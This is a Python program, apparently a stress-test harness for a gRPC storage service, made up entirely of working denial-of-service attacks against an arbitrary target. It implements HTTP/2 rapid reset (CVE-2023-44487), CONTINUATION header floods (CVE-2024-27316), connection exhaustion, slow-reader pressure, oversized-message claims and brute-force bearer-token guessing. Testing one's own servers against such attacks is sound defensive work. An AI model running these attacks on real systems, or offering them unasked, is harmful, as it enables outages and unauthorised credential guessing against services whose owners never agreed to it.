"""What an open port has to stand. As a program, `attacks.py NAME TARGET`: a process of its own, so that the
time it takes is not its victims'. Each attack is bounded, and ends by itself.
"""

import os
import resource
import socket
import struct
import sys
import time

import raw_http2 as h2

RESET_PAIRS, RESET_CONNECTIONS = 200_000, 100
FLOOD_CONNECTIONS, FLOOD_BYTES = 50, 4 << 20
CONNECTIONS, KEPT_OPEN = 10_000, 2_000
FORGED_CONNECTIONS, FORGED_BATCHES, FORGED_AT_ONCE = 20, 50, 20
SLOW_READERS, SLOW_CALLS, SLOW_BYTES_PER_S, SLOW_SECONDS = 8, 100, 1 << 20, 5
OVERSIZED_CONNECTIONS, OVERSIZED_BYTES, OVERSIZED_CLAIM_BYTES = 4, 256 << 20, 4 << 30


def resets(target):
    """Rapid reset (CVE-2023-44487): streams begun and given up at once."""
    headers = h2.call_headers(b"/belay.v1.Storage/Get")
    streams = RESET_PAIRS // RESET_CONNECTIONS
    pairs = b"".join(h2.frame(h2.HEADERS, headers, h2.END_HEADERS, 2 * i + 1) +
                     h2.frame(h2.RST_STREAM, struct.pack(">I", 8), 0, 2 * i + 1) for i in range(streams))
    for _ in range(RESET_CONNECTIONS):
        with h2.connect(target) as connection:
            connection.sendall(h2.OPENING)
            connection.recv(1)  # the server's settings have come
            h2.send_until_refused(connection, h2.SETTINGS_ACK + pairs)


def continuations(target):
    """Header blocks that never end (CVE-2024-27316 and its kin)."""
    piece = h2.frame(h2.CONTINUATION, h2.field(b"x" * 100, b"y" * 100) * 70, 0, 1)
    block = h2.frame(h2.HEADERS, h2.call_headers(b"/a/B"), 0, 1) + piece * (FLOOD_BYTES // len(piece))
    for _ in range(FLOOD_CONNECTIONS):
        with h2.connect(target) as connection:
            h2.send_until_refused(connection, h2.OPENING + block)


def connections(target):
    """Connections that say nothing, as many as there can be."""
    soft = min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], KEPT_OPEN + 100)
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    kept = []
    for _ in range(CONNECTIONS):
        kept.append(h2.connect(target))
        if len(kept) > soft - 100:
            kept.pop(0).close()


def forged_tokens(target):
    """Guesses of bearer tokens, each with a call of its own."""
    for _ in range(FORGED_CONNECTIONS):
        with h2.connect(target) as connection:
            connection.sendall(h2.OPENING)
            answers = h2.frames(connection)
            next(answers)  # the server's settings
            connection.sendall(h2.SETTINGS_ACK)
            for batch in range(FORGED_BATCHES):
                for i in range(FORGED_AT_ONCE):
                    stream = 2 * (batch * FORGED_AT_ONCE + i) + 1
                    guess = h2.field(b"authorization", b"Bearer belay_" + os.urandom(32).hex().encode())
                    connection.sendall(
                        h2.frame(h2.HEADERS, h2.call_headers(b"/belay.v1.Storage/Get") + guess, h2.END_HEADERS,
                                 stream) + h2.frame(h2.DATA, bytes(5), h2.END_STREAM, stream))
                answered = 0
                while answered < FORGED_AT_ONCE:
                    _, flags, stream = next(answers)
                    answered += stream != 0 and bool(flags & h2.END_STREAM)


def slow_readers(target):
    """Clients that ask for much and read little."""
    call = h2.call_headers(b"/belay.v1.Storage/Get")
    request = b"\n\x03big"  # GetRequest{key: "big"}
    message = struct.pack(">BI", 0, len(request)) + request
    readers = []
    for _ in range(SLOW_READERS):
        reader = h2.connect(target)
        reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
        reader.sendall(h2.OPENING)
        reader.recv(1)
        reader.settimeout(0.01)  # what has nothing for it now is read later
        reader.sendall(h2.SETTINGS_ACK + b"".join(
            h2.frame(h2.HEADERS, call, h2.END_HEADERS, 2 * i + 1) +
            h2.frame(h2.DATA, message, h2.END_STREAM, 2 * i + 1) for i in range(SLOW_CALLS)))
        readers.append(reader)
    slices = 20  # a second
    for _ in range(SLOW_SECONDS * slices):
        for reader in readers:
            try:
                reader.recv(SLOW_BYTES_PER_S // slices)
            except TimeoutError:
                pass
        time.sleep(1 / slices)


def oversized(target):
    """Messages that claim gigabytes, and are sent as far as the server takes them."""
    claim = struct.pack(">BI", 0, OVERSIZED_CLAIM_BYTES - 1)
    piece = h2.frame(h2.DATA, b"z" * h2.MAX_FRAME_BYTES, 0, 1) * 64
    for _ in range(OVERSIZED_CONNECTIONS):
        with h2.connect(target) as connection:
            connection.sendall(h2.OPENING)
            connection.recv(1)
            connection.sendall(h2.SETTINGS_ACK + h2.frame(
                h2.HEADERS, h2.call_headers(b"/belay.v1.Storage/Put"), h2.END_HEADERS, 1) +
                               h2.frame(h2.DATA, claim, 0, 1))
            connection.settimeout(1)  # what is not taken by then is not going to be
            try:
                for _ in range(OVERSIZED_BYTES // len(piece)):
                    connection.sendall(piece)
            except (TimeoutError, BrokenPipeError, ConnectionResetError):
                pass


if __name__ == "__main__":
    os.nice(9)  # an attacker's own machine does this work
    {each.__name__: each for each in (resets, continuations, connections, forged_tokens, slow_readers, oversized)}[sys.argv[1]](
        sys.argv[2])
